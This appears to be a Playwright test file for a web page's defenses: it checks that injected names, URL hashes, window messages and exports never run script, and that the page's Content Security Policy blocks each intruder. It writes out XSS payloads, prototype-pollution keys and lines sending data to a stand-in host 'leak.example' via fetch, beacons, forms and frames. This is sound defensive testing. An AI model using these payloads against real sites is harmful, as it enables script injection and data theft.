"""Text that tries to run, to hide or to break the page, in a real browser."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Download, Page, expect

from tests.browser import Open, Opened, two
from tests.hostile import CANARY, PAYLOADS, corpus, hostile, lexicon

REFUSED = "securitypolicyviolation"


def harmless(shown: Opened) -> None:
    """Nothing ran, nothing was even tried, and all elements are of the page's own kinds."""
    tab = shown.tab
    assert tab.evaluate("window.ran") is None
    assert tab.evaluate("Object.keys(Object.prototype)") == []
    foreign = "body :is(iframe, base, meta, object, embed, form, link, style, [onerror], [onload])"
    assert tab.locator(foreign).count() == 0
    assert tab.locator("body script").count() == 3
    for name in ("href", "src", "xlink\\:href"):
        found = tab.locator(f"[{name}]").evaluate_all(
            f"(all) => all.map((one) => one.getAttribute('{name}'))"
        )
        ours = ("data:image/svg+xml,", "https://www.wikidata.org/wiki/Q", "#", "https://leak.ex")
        assert [address for address in found if not address.startswith(ours)] == []


PRESS_ALL = """() => {
  for (const place of ["#legend", "#side", "#chips", "header .tools", "#time"])
    for (let number = 0; number < 80; number += 1) document.querySelectorAll(
      `${place} :is(button, input, summary, [role=link], [role=option])`)[number]?.click();
}"""


def walk(shown: Opened) -> list[Download]:
    """Use everything that the page offers; return what it gave to take along."""
    tab, files = shown.tab, list[Download]()
    tab.on("download", lambda file: files.extend([file]))
    for _ in PAYLOADS:
        tab.keyboard.press("n")
        tab.locator("#network").focus()
        tab.keyboard.press("Enter")
    harmless(shown)
    for view in shown.views():
        tab.click(f"#{view}")
        for heading in tab.locator("[role=tabpanel]:visible th button").all():
            heading.click()
        for words in ("href", "<script", "__proto__", "(.*)+$[", "\u202e"):
            tab.locator("#query").fill(words)
            tab.wait_for_timeout(20)
            tab.locator("#query").press("Enter")
        harmless(shown)
    tab.evaluate(PRESS_ALL)
    tab.keyboard.press("Escape")
    tab.wait_for_timeout(100)
    harmless(shown)
    return files


def test_nothing_of_the_corpus_runs_anywhere_on_the_page(open_page: Open) -> None:
    shown = open_page(
        *corpus(), lexicon=lexicon(), title=PAYLOADS[1], note=PAYLOADS[5], size=(1400, 900)
    )
    assert shown.tab.title() == PAYLOADS[1]
    shown.tab.evaluate(
        f"window.refused = []; addEventListener('{REFUSED}', (e) => refused.push(e))"
    )
    files = walk(shown)
    assert shown.tab.evaluate("refused.length") == 0
    for _ in range(200):  # a picture takes its time
        kinds = {file.suggested_filename.rpartition(".")[2] for file in files}
        if {"csv", "json", "svg", "png"} <= kinds:
            break
        shown.tab.wait_for_timeout(50)
    assert {"csv", "json", "svg", "png"} <= kinds
    for file in files:
        taken_along(file)


def taken_along(file: Download) -> None:
    """No formula in a table, nothing that acts in a picture, whole data."""
    kind = file.suggested_filename.rpartition(".")[2]
    if kind == "png":
        return
    text = file.path().read_text(encoding="utf-8-sig")
    if kind == "csv":
        for row in csv.reader(io.StringIO(text)):
            assert not [cell for cell in row if cell[:1] and cell[0] in "=+-@\t\r"]
    elif kind == "svg":
        for part in ElementTree.fromstring(text).iter():
            assert part.tag.rpartition("}")[2] not in ("script", "foreignObject", "iframe", "a")
            assert not [name for name in part.attrib if name.lower().startswith("on")]
            addresses = [part.attrib[name] for name in part.attrib if name.endswith("href")]
            assert all(address.startswith(("data:image/", "#")) for address in addresses)
    elif kind == "json":
        json.loads(text)


@pytest.mark.parametrize("attack", [p for p in PAYLOADS if "javascript" in p or "<" in p][:3])
def test_names_are_shown_letter_by_letter(open_page: Open, attack: str) -> None:
    shown = open_page(hostile((attack, "other")))
    shown.search(attack)
    shown.tab.keyboard.press("Enter")
    expect(shown.tab.locator("#detail h2")).to_have_text(attack)
    expect(shown.tab.locator("#article p").filter(has_text=attack)).to_have_text(attack)


HASHES = (
    "focus=<img src=x onerror=alert(1)>",
    "focus=__proto__&view=__proto__&edge=__proto__&time=__proto__&hide=__proto__:__proto__",
    "focus=constructor&view=constructor&score=constructor&hide=constructor:x&around=toString",
    "view=javascript:alert(1)&statuses=<script>&types=__proto__&relations=hasOwnProperty",
    "path=..&path=__proto__..constructor&hops=-1&hops=1e9&community=9999999&community=NaN",
    "from=9999-99-99&to=0000-00-00&time=..&score=NaN&score=Infinity&edge=[]&edge={",
    "from=2025-02-30&to=-1&edge=null&marks=null&undated=maybe",
    "focus=%E0%A4%A&edge=%&%=%&%00=%00",
    "focus=" + "x" * 200_000,
    "&" * 5000 + "=" * 5000,
    "hide=" + ",".join(f"type:{number}" for number in range(2000)),
    quote("\u202eevil\ufeff\ud83d", errors="replace"),
)


def test_no_address_breaks_the_page(open_page: Open) -> None:
    shown = open_page(two(), link="#" + HASHES[0])
    for link in (*HASHES, *("focus=" + quote(p, errors="replace") for p in PAYLOADS)):
        shown.tab.evaluate("(link) => { location.hash = link; }", link)
        shown.tab.wait_for_timeout(10)
        expect(shown.tab.locator("#counts")).to_contain_text("entities")
    harmless(shown)
    shown.tab.evaluate("location.hash = ''")
    shown.search("macron")
    shown.tab.keyboard.press("Enter")
    expect(shown.tab.locator("#detail h2")).to_have_text("Emmanuel Macron")


def test_the_page_listens_to_no_other_window(open_page: Open) -> None:
    shown = open_page(two())
    before = shown.tab.locator("body").inner_html()
    for message in ("1", "{focus: 'n0', __proto__: {ran: 1}}", "'<img src=x>'", "[[]]", "null"):
        shown.tab.evaluate(f"() => new Promise((done) => {{ postMessage({message}, '*'); "
                           "setTimeout(done, 30); })")  # fmt: skip
    assert shown.tab.locator("body").inner_html() == before
    harmless(shown)


def test_endless_names_and_words_do_not_widen_or_stop_the_page(open_page: Open) -> None:
    attacks = ("x" * 1_000_000, "W" * 300, "اسم" * 100, "<b>" * 5000)
    shown = open_page(hostile(attacks), title="t" * 1_000_000)
    for view in shown.views():
        shown.tab.click(f"#{view}")
        shown.tab.keyboard.press("n")
        assert shown.tab.evaluate("document.documentElement.scrollWidth") <= 1400
        assert shown.tab.evaluate("document.getElementById('side').scrollWidth") <= 400


INSERT = """const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const make = (tag, given) => {
  document.body.append(Object.assign(document.createElement(tag), given));
};
"""
PATIENCE = 5000  # milliseconds that a refusal may take
IN_A_FRAME = "refused inside the frame"
# What gets in all the same, and the directive that has to refuse it.
INTRUDERS = {
    "make('script', { textContent: 'RUN' })": "script-src-elem",
    "make('script', { src: 'data:text/javascript,RUN' })": "script-src-elem",
    "make('script', { src: 'https://leak.example/x.js' })": "script-src-elem",
    "make('script', { src: URL.createObjectURL(new Blob(['RUN'])) })": "script-src-elem",
    "make('script', { type: 'module', textContent: 'RUN' })": "script-src-elem",
    "put('<b id=l onclick=\"RUN\">'); l.click()": "script-src-attr",
    "put('<a id=l2 href=\"javascript:RUN\">x</a>'); l2.click()": "script-src-elem",
    "put('<img src=\"data:,\" onerror=\"RUN\">')": "script-src-attr",
    "try { eval('RUN') } catch { }": "script-src",
    "try { Function('RUN')() } catch { }": "script-src",
    "setTimeout('RUN')": "script-src",
    "put('<style>body { display: none }</style>')": "style-src-elem",
    "put('<p style=\"position: fixed\">')": "style-src-attr",
    "put('<link rel=stylesheet href=\"https://leak.example/x.css\">')": "style-src-elem",
    "new Image().src = 'https://leak.example/x.png'": "img-src",
    "fetch('https://leak.example/').catch(() => 0)": "connect-src",
    "fetch('data:,x').catch(() => 0)": "connect-src",
    "navigator.sendBeacon('https://leak.example/', 'x')": "connect-src",
    "try { new WebSocket('wss://leak.example/') } catch { }": "connect-src",
    "try { new EventSource('https://leak.example/') } catch { }": "connect-src",
    "try { new Worker('data:text/javascript,RUN') } catch { }": "worker-src",
    "put('<form id=f action=\"https://leak.example/\"><input name=q value=1></form>'); f.submit()":
        "form-action",
    "put('<base href=\"https://leak.example/\">')": "base-uri",
    "put('<iframe src=\"https://leak.example/\"></iframe>')": "frame-src",
    "put('<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>')": IN_A_FRAME,
    "put('<object data=\"https://leak.example/\"></object>')": "object-src",
    "put('<audio src=\"https://leak.example/x.mp3\"></audio>')": "media-src",
    "new FontFace('x', 'url(https://leak.example/x.woff)').load().catch(() => 0)": "font-src",
}  # fmt: skip


def provoke(tab: Page, attack: str, directive: str) -> list[str]:
    """Run an attack from inside the page; return the directives that refused something.

    It runs in a task of its own: what a test evaluates directly may use `eval`. A busy computer
    reports a refusal late, so it is waited for; what would run all the same has its time too.
    """
    wait = 0 if directive == IN_A_FRAME else PATIENCE
    return list(
        tab.evaluate(
            "() => new Promise((done) => { const refused = [];"
            "const hear = (event) => refused.push(event.effectiveDirective);"
            f"addEventListener('{REFUSED}', hear);"
            f"setTimeout(() => {{ {INSERT} {attack.replace('RUN', CANARY)} }});"
            f"const last = performance.now() + {wait};"
            "const look = () => {"
            f"  if (!refused.includes('{directive}') && performance.now() < last)"
            "    return setTimeout(look, 20);"
            f"  removeEventListener('{REFUSED}', hear); return done(refused); }};"
            "setTimeout(look, 120); })"
        )
    )


def test_the_policy_refuses_whatever_gets_in_all_the_same(open_page: Open) -> None:
    shown = open_page(two())
    for attack, directive in INTRUDERS.items():
        refused = provoke(shown.tab, attack, directive)
        if directive != IN_A_FRAME:
            assert directive in refused, (attack, refused)
        assert shown.tab.evaluate("window.ran") is None, attack
        assert shown.tab.url.startswith("file:"), attack
        shown.complaints.clear()
    shown.requests.clear()  # what was refused is listed, too
